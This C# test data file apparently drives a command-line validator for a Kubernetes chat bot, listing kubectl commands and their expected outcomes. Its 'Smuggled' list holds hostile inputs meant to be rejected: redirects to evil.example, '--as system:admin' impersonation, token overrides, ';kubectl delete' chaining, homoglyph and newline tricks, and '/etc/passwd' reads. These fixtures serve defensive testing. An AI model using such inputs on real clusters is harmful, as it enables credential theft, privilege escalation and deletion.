namespace RunModes.Bot.Tests.Proposals.CommandLines;

/// <summary>What becomes of it, a bar, and what was typed after "kubectl". One cluster "prod" with the namespaces web and api; web is meant when none is named.</summary>
internal static class KubectlRows
{
    public const string Rows = """
        read list pods | get pods -n web
        read list pods | get po
        read list pods | get pod --namespace api
        read get pods | get pod web-1 -n web
        read get pods | get pod/web-1 -n web
        read list deployments.apps | get deployments
        read list deployments.apps | get deploy -n web -o wide
        read get deployments.apps | get deployment web -n web
        read get deployments.apps | get deployment.apps/web -n web -o yaml
        read get deployments.apps | get deployments.apps/web --output json
        read list replicasets.apps | get rs
        read list statefulsets.apps | get sts
        read list daemonsets.apps | get ds
        read list jobs.batch | get jobs
        read list cronjobs.batch | get cj
        read list services | get svc
        read list endpoints | get ep
        read list ingresses.networking.k8s.io | get ing
        read list events | get events -n web
        read list horizontalpodautoscalers.autoscaling | get hpa
        read list poddisruptionbudgets.policy | get pdb
        read list networkpolicies.networking.k8s.io | get netpol
        read list persistentvolumeclaims | get pvc
        read list resourcequotas | get quota
        read list nodes | get nodes
        read get nodes | get node n1
        read get deployments.apps | describe deployment web -n web
        read get deployments.apps | describe deploy/web
        read get pods | describe pod web-1
        read get nodes | describe node n1
        read get pods/log | logs web-1
        read get pods/log | logs pod/web-1 -n web --tail 100
        read get pods/log | logs web-1 -c app --previous
        read get pods/log | logs web-1 -p --since 10m --timestamps
        read get pods/log | logs deployment/web --tail 50
        read list pods.metrics.k8s.io | top pods -n web
        read get pods.metrics.k8s.io | top pod web-1
        read list nodes.metrics.k8s.io | top nodes
        read get deployments.apps | rollout status deployment/web -n web
        read get deployments.apps | rollout history deployment web
        read get deployments.apps | rollout history deployment/web --revision 3
        read get statefulsets.apps | rollout status sts/db
        change patch deployments.apps | rollout restart deployment/web -n web
        change patch deployments.apps | rollout restart deploy web
        change patch statefulsets.apps | rollout restart statefulset/db
        change patch daemonsets.apps | rollout restart ds/agent
        change patch deployments.apps | rollout undo deployment/web --to-revision 3
        change patch deployments.apps | rollout pause deployment/web
        change patch deployments.apps | rollout resume deployment/web
        change patch deployments.apps/scale | scale deployment/web --replicas 3
        change patch deployments.apps/scale | scale --replicas 3 deployment web -n api
        change patch deployments.apps/scale | scale deployment/web --replicas 3 --current-replicas 2
        change patch statefulsets.apps/scale | scale sts/db --replicas 2
        change patch deployments.apps | set image deployment/web app=registry.example/web@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
        secret | get secrets
        secret | get secret db -n web
        secret | describe secret db
        secret | get secret/db -o yaml
        secret | get secrets.v1. db
        secret | get configmap settings
        secret | get cm
        secret | get pods,secrets
        refused: --to-revision | rollout undo deployment/web
        refused: 1 to | rollout undo deployment/web --to-revision 0
        refused: --replicas is needed | scale deployment/web
        refused: 1 to | scale deployment/web --replicas 0
        refused: 1 to | scale deployment/web --replicas 1000
        refused: digest | set image deployment/web app=registry.example/web:latest
        refused: digest | set image deployment/web app=web@sha256:0123
        refused: one container | set image deployment/web
        refused: rollout restart | rollout restart pod/web-1
        refused: rollout pause | rollout pause sts/db
        refused: scale | scale job/one --replicas 2
        refused: name | describe pod
        refused: name | rollout restart deployment
        refused: not in the catalogue | exec web-1 -n web
        refused: not in the catalogue | cp web-1:/etc/passwd .
        refused: not in the catalogue | attach web-1
        refused: not in the catalogue | port-forward svc/web 80
        refused: not in the catalogue | proxy
        refused: not in the catalogue | debug node/n1
        refused: not in the catalogue | run x --image y
        refused: not in the catalogue | edit deployment/web
        refused: not in the catalogue | config view
        refused: not in the catalogue | certificate approve x
        refused: not in the catalogue | apply -f x.yaml
        refused: not in the catalogue | create deployment x --image y
        refused: not in the catalogue | patch deployment web -p x
        refused: not in the catalogue | drain n1
        refused: not in the catalogue | cordon n1
        refused: not in the catalogue | auth can-i get secrets
        refused: not in the catalogue | api-resources
        refused: not in the catalogue | explain secrets
        refused: not in the catalogue | plugin list
        refused: not in the catalogue | label pod web-1 a=b
        refused: not in the catalogue | annotate pod web-1 a=b
        refused: not in the catalogue | replace -f x
        refused: not in the catalogue | wait pod/web-1 --for condition
        refused: not in the catalogue | set env deployment/web A=b
        refused: not in the catalogue | set resources deployment/web
        refused: not in the catalogue | rollout frobnicate deployment/web
        refused: Deletions | delete pod web-1
        refused: Deletions | delete deployment web -n web
        refused: kind | get widgets
        refused: kind | get serviceaccounts
        refused: kind | get all
        refused: kind | describe csr x
        """;

    public static IReadOnlyList<(string Typed, string Because)> Smuggled { get; } =
    [
        ("-s https://evil.example get pods", "begins with an option"), ("get pods -s https://evil.example", "-s is not"), ("get pods --server https://evil.example", "--server is not"),
        ("get pods --server=https://evil.example", "a space"), ("get pods --kubeconfig /tmp/x", "--kubeconfig is not"), ("--kubeconfig /tmp/x get pods", "begins with an option"),
        ("get pods --as system:admin", "--as is not"), ("get pods --as-group system:masters", "--as-group is not"), ("get pods --token abc", "--token is not"),
        ("get pods --user admin", "--user is not"), ("get pods --cluster other", "--cluster is not"), ("get pods --certificate-authority x", "--certificate-authority is not"),
        ("get pods --insecure-skip-tls-verify", "--insecure-skip-tls-verify is not"), ("get pods --client-key x", "--client-key is not"), ("get pods --cache-dir /tmp", "--cache-dir is not"),
        ("get --raw /api/v1/secrets", "--raw is not"), ("get pods -v 9", "-v is not"), ("get pods --profile cpu", "--profile is not"),
        ("get -f https://evil.example/x.yaml", "-f is not"), ("get -k dir", "-k is not"), ("get pods --filename x", "--filename is not"),
        ("get pods -A", "-A is not"), ("get pods --all-namespaces", "--all-namespaces is not"), ("get pods -l app", "-l is not"), ("get pods --selector app", "--selector is not"),
        ("get pods --field-selector x", "--field-selector is not"), ("get pods -w", "-w is not"), ("get pods --watch", "--watch is not"), ("logs web-1 -f", "-f is not"), ("logs web-1 --follow", "--follow is not"),
        ("get pods -n kube-system", "kube-system"), ("get pods -nkube-system", "-nkube-system is not"), ("get pods -n=web", "a space"), ("get pods --names web", "--names is not"),
        ("get pods -n web -n api", "twice"), ("get pods -n ''", "empty"), ("get pods -n \"web api\"", "web api"), ("get nodes -n web", "no namespace"),
        ("get pods --context other", "other"), ("get pods -o jsonpath", "wide"), ("get pods -o go-template-file", "wide"), ("get pods --template x", "--template is not"),
        ("rollout restart deployment/web deployment/api", "one object"), ("rollout restart deployment web api", "one object"), ("rollout restart deployment/web,deployment/api", "web,deployment"),
        ("scale deployment/web deployment/api --replicas 2", "one object"), ("scale deployment --all --replicas 2", "--all is not"), ("rollout restart deployment -l app", "-l is not"),
        ("scale deployment/web --replicas=3", "a space"), ("scale deployment/web --replicas 3 --replicas 9", "twice"), ("scale deployment/web --replicas 3 -f x", "-f is not"),
        ("rollout undo deployment/web --to-revision 3 --dry-run none", "--dry-run is not"), ("rollout restart deployment/*", "*"), ("rollout restart deployment/web;kubectl delete pod x", ";"),
        ("rollout restart deployment/../secrets/x", "../secrets/x"), ("rollout restart deployment/web/scale", "web/scale"), ("rollout restart deployment/Web", "Web"),
        ("rollout restart d\u0435ployment/web", "u0435"), ("rollout restart deployment/web\nget secrets", "line"), ("rollout restart deployment/web\u200b", "u200B"),
        ("rollout restart \u2014n web deployment/web", "u2014"), ("ROLLOUT restart deployment/web", "not in the catalogue"), ("rollout restart Deployment/web", "kind"),
        ("set image deployment/web *=x@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", "*"),
        ("set image deployment/web app=@/etc/passwd", "@/etc/passwd"), ("set image deployment/web app=x@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef b=y@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", "one container"),
        ("get pods -- --token x", "-- is not"), ("get pods web-1 web-2", "one object"), ("logs", "name"), ("logs job/one", "log"), ("top secrets", "not shown"), ("top deployments", "top"), ("get", "kind"), ("", "nothing"),
        ("get pods @file", "@file"), ("describe pod -n", "-n has no value"), ("describe pod -n --token", "no value"),
    ];
}
